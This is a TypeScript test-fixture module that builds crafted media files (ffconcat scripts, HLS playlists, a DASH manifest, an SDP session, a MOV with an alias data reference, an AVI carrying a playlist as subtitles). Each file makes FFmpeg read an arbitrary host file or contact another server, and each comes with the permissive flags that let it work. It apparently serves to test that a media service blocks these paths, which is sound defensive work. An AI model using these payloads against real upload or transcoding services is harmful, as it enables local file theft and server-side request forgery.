// Files that call themselves films and name other files and servers, in every way that FFmpeg has for it (QUALITY B4 #12).

/** What a file wants to get at. */
export interface Prey {
  /** Absolute path of a file of the host. */
  readonly path: string;
  /** http://127.0.0.1:PORT of somebody else. */
  readonly origin: string;
  /** A UDP port. */
  readonly udpPort: number;
  /** A real film, with its moov at the end, to be tampered with. */
  readonly mov: Uint8Array;
}

export interface EvilFile {
  readonly name: string;
  readonly content: Uint8Array;
  /** Arguments with which a careless ffmpeg does what the file wants. */
  readonly door: readonly string[];
  /** What it then reaches ("sibling": something else on our own server); null: today's FFmpeg refuses by itself. */
  readonly reaches: "path" | "origin" | "udp" | "sibling" | null;
}

const ALL_PROTOCOLS = [
  "-protocol_whitelist",
  "file,http,tcp,udp,rtp,data,crypto,subfile,concat,async,cache,tee,pipe,rtsp,ftp",
];
const UNSAFE = [...ALL_PROTOCOLS, "-safe", "0"];
const ANY_EXTENSION = [...ALL_PROTOCOLS, "-allowed_extensions", "ALL"];
const ANY_REFERENCE = [...ALL_PROTOCOLS, "-enable_drefs", "1", "-use_absolute_path", "1"];

const text = (...lines: string[]) => new TextEncoder().encode(`${lines.join("\n")}\n`);

export function evilFiles(prey: Prey): readonly EvilFile[] {
  return [...concatScripts(prey), ...playlists(prey), ...others(prey)];
}

function concatScripts({ path, origin }: Prey): EvilFile[] {
  const nested = btoa(new TextDecoder().decode(playlist(`file://${path}`)));
  const named: readonly [string, string, EvilFile["reaches"]][] = [
    ["a file", path, "sibling"],
    ["a file URL", `file://${path}`, "path"],
    ["another server", `${origin}/x.mkv`, "origin"],
    ["subfile:", `subfile,,start,0,end,64,,:${path}`, "path"],
    ["concat:", `concat:${path}|${path}`, "path"],
    ["async:", `async:${path}`, "path"],
    ["cache:", `cache:${path}`, "path"],
    ["crypto+file:", `crypto+file://${path}`, null],
    ["tee:", `tee:${path}`, null],
    ["data: with a playlist", `data:application/vnd.apple.mpegurl;base64,${nested}`, "path"],
  ];
  return named.map(([what, url, reaches]) => ({
    name: `a concat script that names ${what}`,
    content: text("ffconcat version 1.0", `file '${url}'`),
    door: UNSAFE,
    reaches,
  }));
}

function playlist(segment: string, ...before: string[]): Uint8Array {
  const head = ["#EXTM3U", "#EXT-X-TARGETDURATION:10", "#EXT-X-MEDIA-SEQUENCE:0", ...before];
  return text(...head, "#EXTINF:10,", segment, "#EXT-X-ENDLIST");
}

function playlists({ path, origin }: Prey): EvilFile[] {
  const key = (uri: string) => `#EXT-X-KEY:METHOD=AES-128,URI="${uri}",IV=0x${"0".repeat(32)}`;
  const named: readonly [string, Uint8Array, EvilFile["reaches"]][] = [
    ["names a file", playlist(`file://${path}`), "path"],
    ["names another server", playlist(`${origin}/x.ts`), "origin"],
    ["reads lines of a file into a URL", playlist(`concat:${origin}/|file://${path}`), null],
    ["has its key in a file", playlist(`${origin}/x.ts`, key(`file://${path}`)), "path"],
    ["has its key on another server", playlist(`${origin}/x.ts`, key(`${origin}/key`)), "origin"],
    ["has its head on another server", playlist("own.ts", `#EXT-X-MAP:URI="${origin}/head"`), "origin"],
  ];
  return named.map(([what, content, reaches]) => ({
    name: `an HLS playlist that ${what}`,
    content,
    door: ANY_EXTENSION,
    reaches,
  }));
}

function others(prey: Prey): EvilFile[] {
  return [
    {
      name: "a DASH manifest that names another server",
      content: manifest(prey.origin),
      door: ALL_PROTOCOLS,
      reaches: "origin",
    },
    {
      name: "a session description that listens for UDP",
      content: session(prey.udpPort),
      door: ALL_PROTOCOLS,
      reaches: "udp",
    },
    {
      name: "an index of subtitles in a file beside it",
      content: text("# VobSub index file, v7", "timestamp: 00:00:01:000, filepos: 000000000"),
      door: ALL_PROTOCOLS,
      reaches: "sibling",
    },
    {
      name: "a MOV whose samples are in another file",
      content: withReference(prey.mov, prey.path),
      door: ANY_REFERENCE,
      reaches: "path",
    },
    {
      name: "an AVI whose subtitles are a playlist",
      content: aviWith(playlist(`file://${prey.path}`)),
      door: ALL_PROTOCOLS,
      reaches: null,
    },
  ];
}

function manifest(origin: string): Uint8Array {
  return text(
    '<?xml version="1.0"?>',
    '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">',
    `<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000" codecs="avc1.64001f">`,
    `<BaseURL>${origin}/x.mp4</BaseURL><SegmentBase indexRange="0-99"/>`,
    "</Representation></AdaptationSet></Period></MPD>",
  );
}

function session(port: number): Uint8Array {
  return text(
    "v=0",
    "o=- 0 0 IN IP4 127.0.0.1",
    "s=x",
    "c=IN IP4 127.0.0.1",
    "t=0 0",
    `m=video ${port} RTP/AVP 96`,
    "a=rtpmap:96 H264/90000",
  );
}

// --- boxes of MOV, chunks of AVI -------------------------------------------------------------------------------------

/** Boxes down to the list of places that samples lie in. */
const WAY_TO_REFERENCES = ["moov", "trak", "mdia", "minf", "dinf", "dref"];

/** The film with its first track's samples in the file at `path`. */
function withReference(mov: Uint8Array, path: string): Uint8Array {
  return replaceBox(Buffer.from(mov), 0, WAY_TO_REFERENCES, references(path));
}

/** `file` with the box at the end of `way` replaced, and every box around it made longer. */
function replaceBox(file: Buffer, from: number, way: readonly string[], replacement: Buffer): Buffer {
  const [type = "", ...rest] = way;
  for (let at = from; at < file.length; at += file.readUInt32BE(at)) {
    if (file.toString("latin1", at + 4, at + 8) !== type) continue;
    const end = at + file.readUInt32BE(at);
    if (rest.length === 0) return Buffer.concat([file.subarray(0, at), replacement, file.subarray(end)]);
    const inner = replaceBox(file.subarray(0, end), at + 8, rest, replacement);
    const changed = Buffer.concat([inner, file.subarray(end)]);
    changed.writeUInt32BE(inner.length - at, at);
    return changed;
  }
  throw new Error(`no ${type} in the film`);
}

/** One alias record of a Macintosh, as QuickTime writes them, with an absolute path. */
function references(path: string): Buffer {
  const colons = Buffer.from(path.replaceAll("/", ":"));
  const name = Buffer.alloc(63);
  name.write("x.mov");
  const pathRecord = [number16(2), number16(colons.length), colons, Buffer.alloc(colons.length % 2)];
  const alias = Buffer.concat([
    ...[Buffer.alloc(10), Buffer.of(1), Buffer.alloc(27, "x"), Buffer.alloc(12)],
    ...[Buffer.of(5), name, Buffer.alloc(16), Buffer.alloc(4), Buffer.alloc(16)],
    ...[...pathRecord, number16(0xffff), number16(0)],
  ]);
  const entry = box("alis", Buffer.concat([Buffer.alloc(4), alias]));
  return box("dref", Buffer.concat([Buffer.alloc(4), Buffer.of(0, 0, 0, 1), entry]));
}

function number16(value: number): Buffer {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16BE(value);
  return bytes;
}

function box(type: string, content: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(content.length + 8);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, content]);
}

function chunk(id: string, ...content: Uint8Array[]): Buffer {
  const bytes = Buffer.concat(content);
  const head = Buffer.alloc(8);
  head.write(id, "latin1");
  head.writeUInt32LE(bytes.length, 4);
  return Buffer.concat([head, bytes, Buffer.alloc(bytes.length % 2)]);
}

const list = (type: string, ...content: Uint8Array[]) =>
  chunk("LIST", Buffer.from(type, "latin1"), ...content);

/** A stream of text with `subtitles` as its one packet (GAB2). */
function aviWith(subtitles: Uint8Array): Uint8Array {
  const main = Buffer.alloc(56);
  main.writeUInt32LE(40_000, 0);
  main.writeUInt32LE(1, 24);
  const stream = Buffer.alloc(56);
  stream.write("txts", "latin1");
  stream.writeUInt32LE(1, 20);
  stream.writeUInt32LE(25, 24);
  stream.writeUInt32LE(1, 32);
  const head = Buffer.from("GAB2\0\x02\0\0\0\0\0\x04\0", "latin1");
  const length = Buffer.alloc(4);
  length.writeUInt32LE(subtitles.length);
  const header = list(
    "hdrl",
    chunk("avih", main),
    list("strl", chunk("strh", stream), chunk("strf", Buffer.alloc(40))),
  );
  return chunk("RIFF", Buffer.from("AVI "), header, list("movi", chunk("00tx", head, length, subtitles)));
}
